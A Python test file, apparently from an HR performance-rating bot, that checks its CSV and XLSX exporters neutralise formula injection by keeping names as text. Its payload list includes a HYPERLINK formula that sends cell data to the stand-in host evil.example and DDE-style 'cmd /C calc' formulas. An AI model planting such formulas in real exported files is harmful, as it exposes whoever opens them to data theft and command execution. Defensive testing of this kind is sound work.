"""Every CSV and XLSX the project writes keeps a formula-looking name as text (CSV injection).

Each writer is fed the classic payloads in its name/post/unit fields, its file is read back,
and the cell must be text that no spreadsheet evaluates: in XLSX an explicit string cell with
the value unchanged, in CSV the value with a leading apostrophe. Real numbers stay numbers.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell

from bot.demo.regency import Person
from bot.demo.regency import write_csv as write_demo_people
from bot.domain import AssignmentSource
from bot.exports import write_results
from bot.render import Renderer
from bot.services import assignment_table
from bot.services.results import ExportRow
from bot.services.sheets import csv_cell
from bot.services.tabular import TableSpec, read_table
from scoring import Predikat, Rating
from scoring.feedback import Relation

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
NIP = "197502012000031001"


def _as_xml_keeps_it(text: str) -> str:
    """XML turns a carriage return into a line feed; the cell is still that text."""
    return text.replace("\r", "\n")


def _row(name: str, post: str = "Analis", unit: str = "Bidang P2P") -> ExportRow:
    return ExportRow(
        nip=NIP,
        nama=name,
        jabatan=post,
        unit=unit,
        opd="Dinas Kesehatan",
        periode="Triwulan I 2026",
        hasil_kerja=Rating.MEETS,
        perilaku_kerja=Rating.MEETS,
        predikat=Predikat.BAIK,
        jumlah_bukti=-2,  # a number, even a negative one, stays a number
        jumlah_umpan_balik=3,
        status_keberatan="none",
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_results_xlsx_keeps_a_formula_name_as_text(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "hasil.xlsx"
    rows = [_row(payload, post=payload, unit=payload)]
    write_results(path, rows, Renderer(default_language="id"), xlsx=True)
    sheet = load_workbook(path).active
    assert sheet is not None
    for column in "BCD":  # nama, jabatan, unit
        cell = sheet[f"{column}2"]
        assert (cell.data_type, cell.value) == ("s", _as_xml_keeps_it(payload))
        assert cell.quotePrefix
    assert (sheet["J2"].data_type, sheet["J2"].value) == ("n", -2)
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", NIP)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_results_csv_prefixes_a_formula_name(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "hasil.csv"
    rows = [_row(payload, post=payload, unit=payload), _row("Sari Wulandari")]
    write_results(path, rows, Renderer(default_language="id"), xlsx=False)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        found = list(csv.reader(handle))
    assert found[1][1:4] == ["'" + payload] * 3
    assert found[1][0] == NIP
    assert found[1][9] == "-2"  # the number is written as a number, unprefixed
    assert found[2][1] == "Sari Wulandari"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_feedback_assignments_xlsx_keeps_a_formula_name_as_text(
    tmp_path: Path, payload: str
) -> None:
    path = tmp_path / "penugasan.xlsx"
    row = assignment_table.AssignmentRow(
        rater_nip=NIP,
        rater_name=payload,
        ratee_nip=NIP,
        ratee_name=payload,
        relation=Relation.SELF,
        ratee_unit=payload,
        source=AssignmentSource.AUTO,
        answered=False,
    )
    assignment_table.write_xlsx([row], path)
    sheet = load_workbook(path).worksheets[0]
    for column in "BDF":  # nama_penilai, nama_dinilai, unit_dinilai
        cell = sheet[f"{column}2"]
        assert isinstance(cell, Cell)
        assert (cell.data_type, cell.value) == ("s", _as_xml_keeps_it(payload))
    # and the file still imports: the NIPs and the relation are read as they were written
    [read] = read_table(path, assignment_table.ASSIGNMENT_TABLE)
    assert (read.values["nip_penilai"], read.values["hubungan"]) == (NIP, "diri")


def test_demo_personnel_file_is_guarded_and_imports_back(tmp_path: Path) -> None:
    """The demo writes import files with the same helper; the reader takes the apostrophe off."""
    path = tmp_path / "pegawai.csv"
    person = Person(NIP, "-2+3", "=Kepala", "pelaksana", "@Unit", "Dinas", "", "+6281234567890")
    write_demo_people([person], path)
    raw = path.read_text(encoding="utf-8")
    assert "'-2+3" in raw
    assert "'=Kepala" in raw
    assert "'+6281234567890" in raw
    spec = TableSpec(required=("nip", "nama", "jabatan", "unit", "telepon"))
    [row] = read_table(path, spec)
    assert (row.values["nama"], row.values["jabatan"], row.values["unit"]) == (
        "-2+3",
        "=Kepala",
        "@Unit",
    )
    assert row.values["telepon"] == "+6281234567890"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Sari", "Sari"),
        ("-2+3", "'-2+3"),
        ("=1+1", "'=1+1"),
        ("", ""),
        (-2, -2),
        (12, 12),
    ],
)
def test_csv_cell_guards_text_only(value: str | int, written: str | int) -> None:
    assert csv_cell(value) == written
